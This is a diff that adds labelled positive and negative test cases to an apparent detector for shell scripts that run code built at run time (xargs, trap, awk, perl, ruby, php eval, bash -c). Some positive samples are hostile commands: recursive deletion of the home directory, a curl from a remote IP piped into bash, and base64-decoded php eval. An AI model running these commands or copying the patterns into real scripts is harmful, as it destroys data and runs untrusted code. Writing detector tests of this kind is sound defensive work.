@@ -125,3 +125,46 @@ zip -q -T out.zip f
 go() { make test; }
 export -f go
 bash -c go
+#@ pos xargs hands what it reads to env, which runs it
+printf '%s\n' rm -r -f "$HOME" | xargs env
+#@ pos xargs runs its replace string as the command
+echo rm | xargs -I{} {} -rf ~
+#@ neg xargs with a replace string as an argument
+ls | xargs -I{} cp {} /tmp/backup/
+#@ neg xargs env with a program of its own
+ls | xargs env LC_ALL=C wc -l
+#@ pos trap of a variable's value
+trap "$1" EXIT
+#@ neg trap with a variable inside constant code
+trap "rm -rf $tmp" EXIT
+#@ pos an awk program built at run time
+awk "$prog" /etc/passwd
+#@ neg an awk program with a column number in it
+awk "{print \$$col}" data.txt
+#@ pos perl evaluates an environment variable
+P='system q{id}' perl -e 'eval $ENV{P}'
+#@ pos ruby evaluates its argument
+ruby -e 'eval(ARGV[0])' "$code"
+#@ neg perl's eval block catches an error
+perl -e 'eval { die "x\n" }; print "caught: $@"'
+#@ pos bash -c kept in an array, given code built at run time
+f=(bash -c); "${f[@]}" "$payload"
+#@ neg bash -c kept in an array, given constant code
+f=(bash -c); "${f[@]}" 'echo hello'
+#@ pos xargs gives what it reads to sh -c as the replace string
+curl -s http://203.0.113.5/s | xargs -0 -I{} bash -c {}
+#@ neg xargs runs constant code with the replace string as an argument
+ls | xargs -I{} bash -c 'wc -l "$1"' _ {}
+#@ neg trap of rm with the temporary paths quoted by printf %q
+trap "$(printf 'rm -rf %q %q' "$tmpdir" "$lock")" EXIT
+#@ pos trap of eval with a value quoted by printf %q
+trap "$(printf 'eval %q' "$code")" EXIT
+#@ neg perl evaluates a number
+perl -e 'print eval(2+3), "\n"'
+#@ pos php evaluates a decoded argument
+php -r 'eval(base64_decode($argv[1]));' "$payload"
+#@ neg trap of a message through an echo picked from two constants
+if [ "$(echo -e x)" = x ]; then ECHO="echo -e"; else ECHO=echo; fi
+trap "$ECHO $0 got SIGINT" INT
+#@ pos trap -- of a variable's value
+trap -- "$handler" EXIT
